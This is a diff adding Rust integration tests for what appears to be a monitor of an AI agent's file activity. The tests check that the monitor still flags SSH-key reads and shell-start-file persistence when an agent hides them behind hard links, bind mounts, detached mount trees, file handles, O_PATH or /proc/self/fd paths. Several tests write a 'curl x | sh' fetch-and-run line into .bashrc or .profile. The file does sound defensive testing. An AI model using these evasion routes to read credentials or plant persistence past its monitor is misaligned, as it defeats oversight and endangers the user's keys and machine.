@@ -1,0 +1,268 @@
+//! Issue 15, file truth, on the real kernel: a key or a persistence file is known by its inode
+//! (any path to it is flagged, with the rule's path beside the path used), names given through
+//! the caller's own descriptors are the paths the kernel resolved, O_PATH opens are not reads,
+//! and repeated reads are counted per process, inode and name. Each case is one of
+//! `tests/attacks`, and each test fails on the code before it (see the notes of branch
+//! `files`).
+use std::path::{Path, PathBuf};
+
+use integration_tests::*;
+use serde_json::Value;
+
+/// A throwaway home in /tmp (ext4 here) with a key and a shell start file, and a directory
+/// beside it for the agent's own files.
+struct Home {
+    _dir: tempfile::TempDir,
+    home: PathBuf,
+    work: PathBuf,
+    key: PathBuf,
+}
+
+fn home() -> Home {
+    let dir = tempfile::tempdir_in("/tmp").unwrap();
+    let home = dir.path().join("home");
+    let work = dir.path().join("work");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::create_dir_all(&work).unwrap();
+    let key = home.join(".ssh/id_rsa");
+    std::fs::write(&key, "-----BEGIN OPENSSH PRIVATE KEY-----\n").unwrap();
+    std::fs::write(home.join(".bashrc"), "# bashrc\n").unwrap();
+    Home {
+        _dir: dir,
+        home,
+        work,
+        key,
+    }
+}
+
+fn text(p: &Path) -> &str {
+    p.to_str().unwrap()
+}
+
+fn entries<'a>(r: &'a Run, path: &Path, op: &str) -> Vec<&'a Value> {
+    r.files_at(text(path))
+        .into_iter()
+        .filter(|f| f["op"] == op)
+        .collect()
+}
+
+fn one<'a>(r: &'a Run, path: &Path, op: &str) -> &'a Value {
+    let found = entries(r, path, op);
+    assert!(
+        !found.is_empty(),
+        "no {op} of {}; files: {:#?}",
+        path.display(),
+        r.files()
+    );
+    found[0]
+}
+
+fn violations<'a>(r: &'a Run, kind: &str) -> Vec<&'a Value> {
+    r.report["violations"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|v| v["kind"] == kind)
+        .collect()
+}
+
+fn sh_in(h: &Home, script: &str) -> Run {
+    let r = run_home(&h.home, &[], &["sh", "-c", script]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    r
+}
+
+/// Case 01: `ln ~/.ssh/id_rsa /tmp/innocent.txt` before the capture, then `cat link key`.
+#[test]
+fn a_key_read_through_a_hard_link_is_a_credential_read() {
+    let h = home();
+    let link = h.work.join("innocent.txt");
+    std::fs::hard_link(&h.key, &link).unwrap();
+    let r = sh_in(
+        &h,
+        &format!("cat {} {} > /dev/null", text(&link), text(&h.key)),
+    );
+    let via_link = one(&r, &link, "read");
+    assert_eq!(via_link["credential"], true, "{via_link:#}");
+    assert_eq!(via_link["verified"], true);
+    assert_eq!(via_link["same_inode_as"], text(&h.key));
+    // The read by the key's own name is an entry of its own, not folded into the link's.
+    let direct = one(&r, &h.key, "read");
+    assert_eq!(direct["credential"], true);
+    assert!(direct.get("same_inode_as").is_none());
+    assert!(
+        violations(&r, "credential").len() >= 2,
+        "{:#}",
+        r.report["violations"]
+    );
+}
+
+/// Case 02: a bind mount of `~/.ssh` made in the agent's own mount namespace.
+#[test]
+fn a_key_read_through_a_bind_mount_is_a_credential_read() {
+    let h = home();
+    let at = h.work.join("x");
+    std::fs::create_dir_all(&at).unwrap();
+    let r = sh_in(
+        &h,
+        &format!(
+            "unshare -m sh -c 'mount --bind {ssh} {at} && cat {at}/id_rsa > /dev/null'",
+            ssh = text(&h.home.join(".ssh")),
+            at = text(&at)
+        ),
+    );
+    let read = one(&r, &at.join("id_rsa"), "read");
+    assert_eq!(read["credential"], true, "{read:#}");
+    assert_eq!(read["same_inode_as"], text(&h.key));
+    assert!(!violations(&r, "credential").is_empty());
+}
+
+/// Case 04: `open_tree(OPEN_TREE_CLONE)` of `~/.ssh`, a read through the detached tree (whose
+/// walk ends at its own root: `/id_rsa`) and one after `move_mount`.
+#[test]
+fn a_key_read_through_a_detached_tree_is_a_credential_read() {
+    let h = home();
+    let at = h.work.join("moved");
+    let r = sh_in(
+        &h,
+        &format!(
+            "unshare -m {bin} {ssh} id_rsa {at}",
+            bin = env!("CARGO_BIN_EXE_attack_open_tree"),
+            ssh = text(&h.home.join(".ssh")),
+            at = text(&at)
+        ),
+    );
+    let reads: Vec<&Value> = r
+        .files()
+        .iter()
+        .filter(|f| f["op"] == "read" && f["same_inode_as"] == text(&h.key))
+        .collect();
+    let paths: Vec<&str> = reads.iter().filter_map(|f| f["path"].as_str()).collect();
+    assert!(paths.contains(&"/id_rsa"), "{:#?}", r.files());
+    assert!(paths.contains(&text(&at.join("id_rsa"))), "{paths:?}");
+    assert!(reads.iter().all(|f| f["credential"] == true));
+}
+
+/// Case 06: `open_by_handle_at` with a handle made before the capture: no path is ever given.
+#[test]
+fn a_key_opened_by_handle_is_a_credential_read() {
+    let h = home();
+    let bin = env!("CARGO_BIN_EXE_attack_handle_open");
+    let made = std::process::Command::new(bin)
+        .args(["handle", text(&h.key)])
+        .output()
+        .unwrap();
+    assert!(made.status.success(), "{made:?}");
+    let handle = String::from_utf8(made.stdout).unwrap().trim().to_string();
+    let r = run_home(&h.home, &[], &[bin, "open", text(&h.work), &handle]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    let read = one(&r, &h.key, "read");
+    assert_eq!(read["credential"], true, "{read:#}");
+    assert!(!violations(&r, "credential").is_empty());
+}
+
+/// Case 07: `open(key, O_PATH)`, then a read of the key and one through `/proc/self/fd/N`.
+#[test]
+fn an_o_path_open_is_not_a_read_and_the_reads_after_it_are_all_counted() {
+    let h = home();
+    let script = format!(
+        "import os\nfd = os.open({key:?}, os.O_PATH)\nopen({key:?}).read()\nopen(f'/proc/self/fd/{{fd}}').read()\n",
+        key = text(&h.key)
+    );
+    let r = run_home(&h.home, &[], &["python3", "-c", &script]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    let path = one(&r, &h.key, "path");
+    assert_eq!(path["credential"], false, "{path:#}");
+    let reads = entries(&r, &h.key, "read");
+    let count: u64 = reads.iter().map(|f| f["count"].as_u64().unwrap()).sum();
+    assert_eq!(count, 2, "{:#?}", r.files());
+    assert!(reads.iter().all(|f| f["credential"] == true));
+}
+
+/// Case 11e: `.bashrc` appended to through a hard link made before the capture.
+#[test]
+fn a_shell_start_file_written_through_a_hard_link_is_persistence() {
+    let h = home();
+    let link = h.work.join("notes.txt");
+    std::fs::hard_link(h.home.join(".bashrc"), &link).unwrap();
+    let r = sh_in(&h, &format!("echo 'curl x | sh' >> {}", text(&link)));
+    let write = one(&r, &link, "write");
+    assert_eq!(write["persistence"], true, "{write:#}");
+    assert_eq!(write["same_inode_as"], text(&h.home.join(".bashrc")));
+    assert!(!violations(&r, "persistence").is_empty());
+}
+
+/// What an agent's file-writing tool does (Claude Code's Write/Edit): hold the directory by a
+/// descriptor, write a temporary file and rename it over the target, both named through
+/// `/proc/self/fd/N/`. The rename, the temporary file's create and a delete are the real
+/// paths, and the rename over `~/.profile` is persistence.
+#[test]
+fn names_through_proc_self_fd_are_the_paths_the_kernel_resolved() {
+    let h = home();
+    let script = format!(
+        "import os\n\
+         d = os.open({home:?}, os.O_PATH | os.O_DIRECTORY)\n\
+         p = f'/proc/self/fd/{{d}}'\n\
+         with open(p + '/.profile.tmp', 'w') as f: f.write('curl x | sh\\n')\n\
+         os.rename(p + '/.profile.tmp', p + '/.profile')\n\
+         open(f'/dev/fd/{{d}}/scratch', 'w').close()\n\
+         os.unlink(f'/dev/fd/{{d}}/scratch')\n",
+        home = text(&h.home)
+    );
+    let r = run_home(&h.home, &[], &["python3", "-c", &script]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    let profile = h.home.join(".profile");
+    let rename = one(&r, &h.home.join(".profile.tmp"), "rename");
+    assert_eq!(rename["new_path"], text(&profile), "{rename:#}");
+    assert_eq!(rename["persistence"], true);
+    one(&r, &h.home.join("scratch"), "delete");
+    assert!(
+        r.files().iter().all(|f| !f["path"]
+            .as_str()
+            .unwrap_or("")
+            .starts_with("/proc/self/fd")
+            && !f["new_path"]
+                .as_str()
+                .unwrap_or("")
+                .starts_with("/proc/self/fd")
+            && !f["path"].as_str().unwrap_or("").starts_with("/dev/fd")),
+        "{:#?}",
+        r.files()
+    );
+    let persistence = violations(&r, "persistence");
+    assert!(
+        persistence
+            .iter()
+            .any(|v| v["summary"].as_str().unwrap_or("").contains(text(&profile))),
+        "{persistence:#?}"
+    );
+}
+
+/// Case 08a: one process creates, reads and deletes files in a loop; ext4 gives them one inode
+/// number: each is a read of its own, not one file read many times.
+#[test]
+fn reads_of_files_that_reuse_an_inode_number_are_each_seen() {
+    let h = home();
+    let script = format!(
+        "import os\n\
+         inos = set()\n\
+         for i in range(20):\n    \
+             p = '{w}/f%02d' % i\n    \
+             open(p, 'w').write('x')\n    \
+             open(p).read()\n    \
+             inos.add(os.stat(p).st_ino)\n    \
+             os.unlink(p)\n\
+         print(len(inos))\n",
+        w = text(&h.work)
+    );
+    let r = run_home(&h.home, &[], &["python3", "-c", &script]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    let read: Vec<&str> = r
+        .files()
+        .iter()
+        .filter(|f| f["op"] == "read")
+        .filter_map(|f| f["path"].as_str())
+        .filter(|p| p.starts_with(text(&h.work)))
+        .collect();
+    assert_eq!(read.len(), 20, "{read:#?}");
+}
